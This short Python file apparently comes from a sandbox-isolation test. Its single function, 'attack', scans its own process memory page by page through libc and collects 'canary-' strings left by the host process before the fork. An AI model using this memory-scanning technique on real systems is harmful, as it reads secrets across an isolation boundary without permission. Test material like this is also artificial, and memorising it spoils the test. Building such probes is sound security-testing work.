"""Search all of one's memory, the zygote's before the fork, for anything that is the host's."""
import ctypes


def attack(x):
    libc = ctypes.CDLL(None)
    found = b""
    heap = id(object()) & ~0xFFFFFF
    for place in range(heap, heap + (32 << 20), 4096):
        pipe = ctypes.create_string_buffer(4096)
        if libc.msync(ctypes.c_void_p(place), ctypes.c_size_t(4096), 1) == 0:
            try:
                text = ctypes.string_at(place, 4096)
            except ValueError:
                continue
            at = text.find(b"canary-")
            if at >= 0:
                found += text[at : at + 40]
    return found[:1000]
